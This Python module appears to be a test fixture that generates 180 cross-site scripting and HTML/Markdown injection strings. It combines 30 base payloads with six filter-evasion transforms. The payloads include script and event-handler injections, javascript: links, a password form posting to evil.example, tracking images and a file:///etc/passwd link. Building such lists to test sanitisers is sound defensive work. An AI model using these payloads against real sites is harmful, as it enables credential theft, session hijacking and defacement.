"""Texts that would act in another's browser, made of what acts and of how it is hidden: 150 and more."""

from __future__ import annotations

from itertools import product

ACTS = (
    "<script>PWN()</script>", "<img src=x onerror=PWN()>", "<svg onload=PWN()>", "<body onload=PWN()>",
    "<iframe src=javascript:PWN()></iframe>", "<iframe srcdoc='<script>PWN()</script>'></iframe>",
    "<object data=javascript:PWN()></object>", "<embed src=javascript:PWN()>", "<a href=javascript:PWN()>x</a>",
    "<form action=https://evil.example/PWN><input name=password></form>", "<style>body{display:none}/*PWN*/</style>",
    "<link rel=stylesheet href=https://evil.example/PWN.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",  # noqa: E501
    "<base href=https://evil.example/PWN>", "<details open ontoggle=PWN()>", "<video><source onerror=PWN()></video>",
    "<math><mi xlink:href=javascript:PWN()>x</mi></math>", "<input autofocus onfocus=PWN()>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/PWN)'>x</div>",
    "<template><script>PWN()</script></template>", "<marquee onstart=PWN()>", "<select autofocus onfocus=PWN()>",
    "![x](https://evil.example/PWN.png)", "![x][r]\n\n[r]: https://evil.example/PWN.png", "[x](javascript:PWN())",
    "[x](data:text/html;base64,UFdO)", "[x](vbscript:PWN())", "[x](file:///etc/passwd)", "[x](//evil.example/PWN)",
    "<javascript:PWN()>",
)  # fmt: skip
HIDES = (
    lambda text: text,
    lambda text: "".join(c.upper() if n % 2 else c for n, c in enumerate(text)),
    lambda text: text.replace("javascript:", "java\tscript:").replace("<", "<\x00", 1),
    lambda text: f"\"'>--></title></style></textarea>{text}",
    lambda text: text.replace("(", "&#40;").replace("<", "&lt;", 1),
    lambda text: f"`{text}` ~~**{text}**~~\n\n> {text}\n\n| a |\n|---|\n| {text} |",
)
VECTORS = tuple(hide(act) for act, hide in product(ACTS, HIDES))
